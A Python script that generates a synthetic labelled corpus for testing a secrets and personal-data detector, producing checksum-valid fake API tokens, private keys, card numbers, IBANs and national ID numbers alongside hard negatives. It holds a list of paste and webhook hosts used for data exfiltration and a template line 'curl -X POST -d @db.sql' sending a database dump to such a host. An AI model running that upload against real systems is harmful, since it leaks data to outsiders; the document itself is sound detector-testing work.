#!/usr/bin/env python3
"""Generates the labelled detector corpus (tests/corpus/corpus.jsonl), deterministically.

Every positive is a generated value that is valid where a checksum exists (Luhn, mod 97,
11-test, the NIR key, SSN area rules), set in a sentence a person or a program would write, with
its span labelled in Unicode scalars. Every sample also carries hard negatives: UUIDs, hashes,
base64 blobs, Luhn-invalid numbers, version strings, dates, documented example values,
placeholders. Nothing here is a real credential or a real person's data.

    python3 tests/corpus/generate.py            # rewrites corpus.jsonl (same seed, same file)
"""
import base64
import json
import random
import string
from pathlib import Path

R = random.Random(20261128)
OUT = Path(__file__).with_name("corpus.jsonl")
ALNUM = string.ascii_letters + string.digits
UPPER_DIGITS = string.ascii_uppercase + string.digits


def rand(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))


def digits(n):
    return "".join(R.choice(string.digits) for _ in range(n))


# --- secrets -------------------------------------------------------------------------------

def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt():
    header = b64url(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    payload = b64url(json.dumps({"sub": digits(8), "name": rand(8, string.ascii_lowercase), "iat": 1700000000 + R.randint(0, 10**7)}).encode())
    return f"{header}.{payload}.{b64url(bytes(R.getrandbits(8) for _ in range(32)))}"


def private_key():
    kind = R.choice(["RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY"])
    body = "\n".join(base64.b64encode(bytes(R.getrandbits(8) for _ in range(48))).decode() for _ in range(R.randint(3, 12)))
    return f"-----BEGIN {kind}-----\n{body}\n-----END {kind}-----"


SECRETS = {
    "aws_access_key_id": lambda: R.choice(["AKIA", "ASIA"]) + rand(16, UPPER_DIGITS.replace("0", "").replace("1", "")),
    "github_token": lambda: R.choice(["ghp_", "gho_", "ghs_"]) + rand(36),
    "gitlab_token": lambda: "glpat-" + rand(20, ALNUM + "-_"),
    "slack_token": lambda: R.choice(["xoxb-", "xoxp-"]) + digits(11) + "-" + digits(12) + "-" + rand(24),
    "slack_webhook": lambda: f"https://hooks.slack.com/services/T{rand(8, UPPER_DIGITS)}/B{rand(8, UPPER_DIGITS)}/{rand(24)}",
    "discord_webhook": lambda: f"https://discord.com/api/webhooks/{digits(18)}/{rand(68, ALNUM + '-_')}",
    "stripe_key": lambda: R.choice(["sk_live_", "rk_live_"]) + rand(24),
    "sendgrid_api_key": lambda: f"SG.{rand(22, ALNUM + '-_')}.{rand(43, ALNUM + '-_')}",
    "openai_api_key": lambda: "sk-proj-" + rand(48, ALNUM + "-_"),
    "anthropic_api_key": lambda: "sk-ant-api03-" + rand(80, ALNUM + "-_"),
    "google_api_key": lambda: "AIza" + rand(35, ALNUM + "-_"),
    "huggingface_token": lambda: "hf_" + rand(34),
    "groq_api_key": lambda: "gsk_" + rand(52),
    "npm_token": lambda: "npm_" + rand(36),
    "jwt": jwt,
    "private_key": private_key,
}

SECRET_SENTENCES = [
    "Here is the token: {v}",
    "export API_TOKEN={v}",
    "Can you debug why {v} returns 401?",
    "config:\n  key: {v}\n  region: eu-west-1",
    "Authorization: Bearer {v}",
    "Mijn sleutel is {v}, werkt die nog?",
    "La clé {v} ne marche plus.",
    '{{"token": "{v}", "retries": 3}}',
]

# --- personal data --------------------------------------------------------------------------

def luhn_complete(prefix, length):
    body = prefix + digits(length - len(prefix) - 1)
    total = 0
    for i, d in enumerate(reversed(body)):
        n = int(d)
        if i % 2 == 0:
            n *= 2
            n = n - 9 if n > 9 else n
        total += n
    return body + str((10 - total % 10) % 10)


def card():
    kind = R.choice(["visa", "mc", "amex"])
    if kind == "amex":
        number = luhn_complete(R.choice(["34", "37"]), 15)
        return R.choice([number, f"{number[:4]} {number[4:10]} {number[10:]}"])
    number = luhn_complete("4" if kind == "visa" else str(R.randint(51, 55)), 16)
    sep = R.choice(["", " ", "-"])
    return sep.join(number[i:i + 4] for i in range(0, 16, 4))


def iban():
    country, bban = R.choice([
        ("BE", lambda: digits(12)), ("NL", lambda: rand(4, string.ascii_uppercase) + digits(10)),
        ("DE", lambda: digits(18)), ("FR", lambda: digits(10) + rand(11, UPPER_DIGITS) + digits(2)),
        ("GB", lambda: rand(4, string.ascii_uppercase) + digits(14)),
    ])
    bban = bban()
    numeric = "".join(str(int(c, 36)) for c in bban + country + "00")
    check = 98 - int(numeric) % 97
    value = f"{country}{check:02d}{bban}"
    return R.choice([value, " ".join(value[i:i + 4] for i in range(0, len(value), 4))])


def bsn():
    while True:
        body = [R.randint(0, 9) for _ in range(8)]
        if not any(body):
            continue
        total = sum(d * (9 - i) for i, d in enumerate(body))
        last = total % 11
        if last <= 9:
            return "".join(map(str, body + [last]))


def be_national_number():
    yy, mm, dd, serial = R.randint(40, 99), R.randint(1, 12), R.randint(1, 28), R.randint(1, 997)
    first = f"{yy:02d}{mm:02d}{dd:02d}{serial:03d}"
    check = 97 - int(first) % 97
    return f"{yy:02d}.{mm:02d}.{dd:02d}-{serial:03d}.{check:02d}"


def fr_nir():
    while True:
        dept = R.randint(1, 95)
        if dept == 20:
            continue
        body = f"{R.choice('12')}{R.randint(40, 99):02d}{R.randint(1, 12):02d}{dept:02d}{R.randint(1, 999):03d}{R.randint(1, 999):03d}"
        key = 97 - int(body) % 97
        value = f"{body}{key:02d}"
        spaced = f"{value[0]} {value[1:3]} {value[3:5]} {value[5:7]} {value[7:10]} {value[10:13]} {value[13:]}"
        return R.choice([value, spaced])


def uk_nino():
    first = R.choice("ABCEGHJKLMNOPRSTWXYZ")
    second = R.choice("ABCEGHJKLMNPRSTWXYZ")
    if first + second in {"BG", "GB", "KN", "NK", "NT", "TN", "ZZ"}:
        return uk_nino()
    number = digits(6)
    suffix = R.choice("ABCD")
    return R.choice([f"{first}{second}{number}{suffix}", f"{first}{second} {number[:2]} {number[2:4]} {number[4:]} {suffix}"])


def us_ssn():
    area = R.choice([a for a in range(1, 900) if a != 666])
    return f"{area:03d}-{R.randint(1, 99):02d}-{R.randint(1, 9999):04d}"


def phone():
    n = lambda k: digits(k)
    nxx = lambda: str(R.randint(2, 9)) + n(2)
    def us_line():
        line = n(4)
        return line if not line.startswith("01") else "2" + line[1:]
    formats = [
        lambda: f"+32 4{R.randint(60, 99)} {n(2)} {n(2)} {n(2)}",
        lambda: f"+31 6 {n(8)}",
        lambda: f"+44 20 {n(4)} {n(4)}",
        lambda: f"+33 {R.randint(1, 7)} {n(2)} {n(2)} {n(2)} {n(2)}",
        lambda: f"+49 30 {n(8)}",
        lambda: f"+1 ({nxx()}) {nxx()}-{us_line()}",
        lambda: f"({nxx()}) {nxx()}-{us_line()}",
        lambda: f"{nxx()}-{nxx()}-{us_line()}",
        lambda: f"04{R.randint(60, 99)} {n(2)} {n(2)} {n(2)}",
        lambda: f"06-{n(8)}",
        lambda: f"0{R.randint(1, 7)} {n(2)} {n(2)} {n(2)} {n(2)}",
        lambda: f"0{R.randint(20, 99)} {n(4)} {n(4)}",
        lambda: f"015{R.randint(1, 9)} {n(7)}",
    ]
    return R.choice(formats)()


def email():
    user = R.choice(["jan.peeters", "marie", "a.dubois", "k.schmidt", "tom_vd", "sofie+news", "it-support"]) + (str(R.randint(1, 99)) if R.random() < 0.3 else "")
    domain = R.choice(["acme.be", "bedrijf.nl", "societe.fr", "firma.de", "corp.co.uk", "mail.com", "uni-gent.ac.be"])
    return f"{user}@{domain}"


def ipv4():
    while True:
        octets = [R.randint(1, 254) for _ in range(4)]
        if octets[0] in (127, 192, 198, 203, 0):
            continue
        return ".".join(map(str, octets))


def ipv6():
    groups = [f"{R.randint(0x2001, 0x2a0f):x}"] + [f"{R.randint(0, 0xffff):x}" for _ in range(7)]
    if R.random() < 0.5:
        return ":".join(groups[:4]) + "::" + groups[7]
    return ":".join(groups)


def date_of_birth():
    y, m, d = R.randint(1940, 2005), R.randint(1, 12), R.randint(1, 28)
    months = ["January", "February", "March", "April", "May", "June", "July", "August", "September", "October", "November", "December"]
    value = R.choice([f"{y}-{m:02d}-{d:02d}", f"{d:02d}/{m:02d}/{y}", f"{d:02d}.{m:02d}.{y}", f"{d} {months[m - 1]} {y}", f"{months[m - 1]} {d}, {y}"])
    label = R.choice(["Date of birth: ", "DOB ", "born on ", "geboortedatum: ", "date de naissance : ", "Geburtsdatum: "])
    return label, value


PII = {
    "email": (email, ["Please mail {v} about it.", "Contact: {v}", "Stuur naar {v} aub.", "cc {v}"]),
    "phone": (phone, ["Call me at {v} tomorrow.", "Tel: {v}", "Mijn nummer is {v}.", "Appelez le {v} svp.", "Mobile {v}"]),
    "payment_card": (card, ["Card number {v}, expiry 04/27.", "Betaal met {v}", "charge {v} now"]),
    "iban": (iban, ["IBAN: {v}", "Overschrijven naar {v} graag.", "Virement sur {v}."]),
    "us_ssn": (us_ssn, ["SSN {v}", "His social security number is {v}.", "ssn: {v}"]),
    "be_national_number": (be_national_number, ["Rijksregisternummer {v}", "NN {v}", "numéro national : {v}"]),
    "nl_bsn": (bsn, ["BSN: {v}", "burgerservicenummer {v}", "Mijn BSN is {v}."]),
    "uk_nino": (uk_nino, ["NI number {v}", "National Insurance: {v}"]),
    "fr_nir": (fr_nir, ["NIR {v}", "numéro de sécurité sociale {v}"]),
    "ip_address": (lambda: R.choice([ipv4, ipv4, ipv6])(), ["ssh root@{v}", "The server at {v} is down.", "allow from {v}", "Client IP: {v}"]),
}

EXFIL_DOMAINS = ["pastebin.com", "webhook.site", "transfer.sh", "ngrok-free.app", "requestbin.com", "file.io", "paste.ee"]

# --- hard negatives -------------------------------------------------------------------------

def uuid():
    h = rand(32, "0123456789abcdef")
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


def luhn_invalid():
    number = luhn_complete("4", 16)
    return number[:-1] + str((int(number[-1]) + R.randint(1, 9)) % 10)


NEGATIVES = [
    lambda: f"request id {uuid()}",
    lambda: f"commit {rand(40, '0123456789abcdef')}",
    lambda: f"sha256: {rand(64, '0123456789abcdef')}",
    lambda: f"payload {base64.b64encode(bytes(R.getrandbits(8) for _ in range(30))).decode()}",
    lambda: f"order {luhn_invalid()}",
    lambda: f"version {R.randint(1, 20)}.{R.randint(0, 30)}.{R.randint(0, 99)}",
    lambda: f"released on {R.randint(2000, 2030)}-{R.randint(1, 12):02d}-{R.randint(1, 28):02d}",
    lambda: f"at {R.randint(0, 23):02d}:{R.randint(0, 59):02d}:{R.randint(0, 59):02d}",
    lambda: "use AKIAIOSFODNN7EXAMPLE from the docs",
    lambda: "set OPENAI_API_KEY=YOUR_API_KEY first",
    lambda: "token = <your-token-here>",
    lambda: f"mail test@example.com or {rand(5, string.ascii_lowercase)}@example.org",
    lambda: f"call (415) 555-01{R.randint(0, 99):02d} in the film",
    lambda: f"docs use 192.0.2.{R.randint(1, 254)} and 2001:db8::{R.randint(1, 99)}",
    lambda: f"invoice {digits(9)} paid",
    lambda: f"total {digits(10)} bytes",
    lambda: f"IBAN BE00 {digits(4)} {digits(4)} {digits(4)} is a typo",
    lambda: f"build {R.randint(2020, 2026)}{R.randint(1, 12):02d}{R.randint(10, 28)}.{R.randint(1, 9)}",
    lambda: f"colour #{rand(6, '0123456789abcdef')}",
    lambda: f"pod api-{rand(10, 'abcdefghijklmnopqrstuvwxyz0123456789')}-{rand(5, 'abcdefghijklmnopqrstuvwxyz')}",
    lambda: f"pi = 3.{digits(14)}",
    lambda: f"price EUR {R.randint(1, 999)}.{R.randint(0, 99):02d}",
    lambda: f"password = {R.choice(['hunter2', 'changeme', 'secret'])}",
    lambda: f"see https://docs.python.org/3/library/{rand(6, string.ascii_lowercase)}.html",
    lambda: f"mac {':'.join(rand(2, '0123456789abcdef') for _ in range(6))}",
    lambda: f"std::vector<int> v{R.randint(1, 9)};",
    lambda: f"meeting on {R.randint(1, 28)} March {R.randint(2020, 2027)}",
]

FILLER = [
    "Thanks for the help earlier.", "Let me know what you think.", "The deploy went fine.", "Dit is een test.",
    "Merci d'avance.", "Please summarise the thread.", "We need this before Friday.", "Kan je dit nakijken?",
]


def sample(index):
    parts, labels = [], []
    text = ""

    def add(piece, label_type=None, value_start=None, value=None):
        nonlocal text
        if text:
            text += " "
        if label_type:
            start = len(text) + value_start
            labels.append({"type": label_type, "start": start, "end": start + len(value)})
        text += piece

    add(R.choice(FILLER))
    for _ in range(R.randint(1, 3)):
        roll = R.random()
        if roll < 0.4:
            kind = R.choice(list(SECRETS))
            value = SECRETS[kind]()
            template = R.choice(SECRET_SENTENCES)
            if kind == "private_key":
                template = "Here is the key:\n{v}\nThanks."
            add(template.replace("{v}", value), kind, template.index("{v}"), value)
        elif roll < 0.85:
            kind = R.choice(list(PII) + ["date_of_birth"])
            if kind == "date_of_birth":
                label, value = date_of_birth()
                add(label + value, kind, len(label), value)
            else:
                make, templates = PII[kind]
                value = make()
                template = R.choice(templates)
                add(template.replace("{v}", value), kind, template.index("{v}"), value)
        else:
            domain = R.choice(EXFIL_DOMAINS)
            value = R.choice([f"https://{domain}/{rand(8)}", f"https://{rand(4, string.ascii_lowercase)}.{domain}/hook", domain])
            template = R.choice(["Upload the logs to {v} please.", "curl -X POST -d @db.sql {v}", "post it on {v}"])
            add(template.replace("{v}", value), "exfil_domain", template.index("{v}"), value)
        if R.random() < 0.7:
            add(R.choice(NEGATIVES)())
    if R.random() < 0.5:
        add(R.choice(FILLER))
    return {"id": f"s{index:05d}", "text": text, "labels": labels}


def negative_only(index):
    return {"id": f"n{index:05d}", "text": " ".join(R.choice(NEGATIVES)() for _ in range(R.randint(2, 5))), "labels": []}


def main():
    with OUT.open("w") as out:
        for index in range(3000):
            out.write(json.dumps(sample(index), ensure_ascii=False) + "\n")
        for index in range(1500):
            out.write(json.dumps(negative_only(index), ensure_ascii=False) + "\n")
    print(f"wrote {OUT}")


if __name__ == "__main__":
    main()
